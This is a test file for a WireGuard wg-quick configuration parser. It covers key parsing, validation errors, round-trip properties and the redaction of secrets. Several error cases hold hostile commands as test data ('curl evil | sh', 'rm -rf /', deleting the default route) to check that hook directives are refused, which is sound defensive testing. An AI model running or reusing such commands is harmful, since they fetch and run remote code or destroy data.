import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { ApiError } from "../../src/core/errors.ts";
import { formatWgQuick, parseWgQuick, type WgQuickConfig } from "../../src/core/wgconf.ts";
import { client, psk, server, server2, wgQuick } from "../support/fixtures.ts";

function error(text: string): ApiError {
  try {
    parseWgQuick(text);
  } catch (err) {
    if (err instanceof ApiError) return err;
    throw err;
  }
  throw new Error("parsed without error");
}

describe("wg-quick parse", () => {
  it("reads every key wg-quick knows, case-insensitively, with comments", () => {
    const text = [
      "# provider file",
      "[Interface]",
      `privatekey = ${client.privateKey}  # mine`,
      "Address = 10.66.0.2/32",
      "Address = fd66::2/128",
      "DNS = 10.66.0.1, 2001:db8::53, corp.example",
      "MTU = 1380",
      "ListenPort = 51000",
      "FwMark = 0x10",
      "Table = auto",
      "[Peer]",
      `PublicKey = ${server.publicKey}`,
      `PresharedKey = ${psk}`,
      "AllowedIPs = 0.0.0.0/0,::/0",
      "Endpoint = [2001:db8::1]:51820",
      "PersistentKeepalive = 25",
      "[Peer]",
      `PublicKey = ${server2.publicKey}`,
      "AllowedIPs = 0.0.0.0/0",
      "Endpoint = vpn2.example.net:443",
      "PersistentKeepalive = off",
    ].join("\r\n");
    expect(parseWgQuick(text)).toEqual({
      interface: {
        privateKey: client.privateKey,
        addresses: ["10.66.0.2/32", "fd66::2/128"],
        dns: ["10.66.0.1", "2001:db8::53"],
        dnsSearch: ["corp.example"],
        mtu: 1380,
        listenPort: 51000,
        fwmark: 16,
        table: "auto",
      },
      peers: [
        { publicKey: server.publicKey, presharedKey: psk, allowedIps: ["0.0.0.0/0", "::/0"], endpoint: { host: "2001:db8::1", port: 51820 }, keepalive: 25 },
        { publicKey: server2.publicKey, allowedIps: ["0.0.0.0/0"], endpoint: { host: "vpn2.example.net", port: 443 } },
      ],
    });
  });

  it.each([
    ["short key", wgQuick({ privateKey: "abc=" }), "Interface.PrivateKey", /line 2: .*"abc="/],
    ["bad CIDR", wgQuick().replace("10.66.0.2/32", "10.66.0.300/32"), "Interface.Address", /"10\.66\.0\.300\/32"/],
    ["prefix too long", wgQuick().replace("::/0", "::/129"), "Peer[1].AllowedIPs", /"::\/129"/],
    ["bad port", wgQuick().replace(":51820", ":70000"), "Peer[1].Endpoint", /"70000"/],
    ["endpoint without port", wgQuick().replace("vpn.example.net:51820", "vpn.example.net"), "Peer[1].Endpoint", /host:port/],
    ["duplicate key", wgQuick().replace("DNS = 10.66.0.1", "MTU = 1400\nMTU = 1300"), "Interface.MTU", /twice/],
    ["unknown key", `${wgQuick()}\nColour = blue\n`, "Peer[1].Colour", /unknown key "Colour"/],
    ["PostUp refused", wgQuick().replace("DNS = 10.66.0.1", "PostUp = curl evil | sh"), "Interface.PostUp", /does not run commands/],
    ["PreDown refused", wgQuick().replace("DNS = 10.66.0.1", "PreDown = rm -rf /"), "Interface.PreDown", /does not run commands/],
    ["PostUp in a peer refused", `${wgQuick()}PostUp = ip route del default\n`, "Peer[1].PostUp", /does not run commands/],
    ["SaveConfig refused", wgQuick().replace("DNS = 10.66.0.1", "SaveConfig = true"), "Interface.SaveConfig", /never writes back/],
    ["peer without key", "[Interface]\nAddress = 10.0.0.2/32\n[Peer]\nAllowedIPs = 0.0.0.0/0\n", "Peer[1].PublicKey", /required/],
    ["no interface", "[Peer]\nPublicKey = x\n", "Peer[1].PublicKey", /WireGuard key/],
    ["not a conf file", "hello world", "line", /Key = Value/],
    ["no peer", "[Interface]\nAddress = 10.0.0.2/32\n", "Peer", /no \[Peer\]/],
    ["unknown section", "[Server]\n", "section", /unknown section "Server"/],
  ])("%s is an error naming %s", (_n, text, field, message) => {
    const e = error(text);
    expect(e.code).toBe("invalid_input");
    expect(e.field).toBe(field);
    expect(e.message).toMatch(message);
  });
});

const b64key = fc.uint8Array({ minLength: 32, maxLength: 32 }).map((b) => Buffer.from(b).toString("base64"));
const v4 = fc.tuple(fc.ipV4(), fc.integer({ min: 0, max: 32 })).map(([a, n]) => `${a}/${n}`);
const v6 = fc.tuple(fc.constantFrom("2001:db8::", "fd00::1", "::"), fc.integer({ min: 0, max: 128 })).map(([a, n]) => `${a}/${n}`);
const cidrs = fc.array(fc.oneof(v4, v6), { minLength: 1, maxLength: 4 });
const host = fc.oneof(fc.ipV4(), fc.domain());
const opt = <T>(a: fc.Arbitrary<T>) => fc.option(a, { nil: undefined });

const configArb: fc.Arbitrary<WgQuickConfig> = fc.record({
  interface: fc.record({
    privateKey: opt(b64key),
    addresses: cidrs,
    dns: fc.array(fc.ipV4(), { maxLength: 2 }),
    dnsSearch: fc.constant([]),
    mtu: opt(fc.integer({ min: 1280, max: 9000 })),
    listenPort: opt(fc.integer({ min: 1, max: 65535 })),
    fwmark: opt(fc.integer({ min: 0, max: 0xffffffff })),
    table: opt(fc.constantFrom("auto", "off", "1234")),
  }),
  peers: fc.array(
    fc.record({
      publicKey: b64key,
      presharedKey: opt(b64key),
      allowedIps: cidrs,
      endpoint: opt(fc.record({ host, port: fc.integer({ min: 1, max: 65535 }) })),
      keepalive: opt(fc.integer({ min: 0, max: 65535 })),
    }),
    { minLength: 1, maxLength: 3 },
  ),
});

const strip = <T extends object>(o: T): T => JSON.parse(JSON.stringify(o));

describe("wg-quick properties", () => {
  it("parse(format(x)) is x", () => {
    fc.assert(
      fc.property(configArb, (c) => {
        expect(parseWgQuick(formatWgQuick(c, { secrets: true }))).toEqual(strip(c));
      }),
      { numRuns: 2000 },
    );
  });

  it("format(parse(text)) is a fixed point", () => {
    fc.assert(
      fc.property(configArb, (c) => {
        const once = formatWgQuick(c, { secrets: true });
        expect(formatWgQuick(parseWgQuick(once), { secrets: true })).toBe(once);
      }),
      { numRuns: 1000 },
    );
  });

  it("no input crashes the parser: it parses or throws an ApiError", () => {
    const lines = fc.array(fc.oneof(fc.string(), fc.constantFrom("[Interface]", "[Peer]", "PrivateKey = ", "Endpoint = [::1]:", "AllowedIPs = 0.0.0.0/0,"), fc.string().map((s) => `Address = ${s}`)), { maxLength: 12 });
    fc.assert(
      fc.property(lines, (ls) => {
        try {
          parseWgQuick(ls.join("\n"));
        } catch (err) {
          expect(err).toBeInstanceOf(ApiError);
        }
      }),
      { numRuns: 10_000 },
    );
  });

  it("export without secrets never contains a key the file had as secret", () => {
    fc.assert(
      fc.property(configArb, (c) => {
        const text = formatWgQuick(c, { secrets: false });
        if (c.interface.privateKey) expect(text).not.toContain(c.interface.privateKey);
        for (const p of c.peers) if (p.presharedKey) expect(text).not.toContain(p.presharedKey);
      }),
      { numRuns: 500 },
    );
  });
});
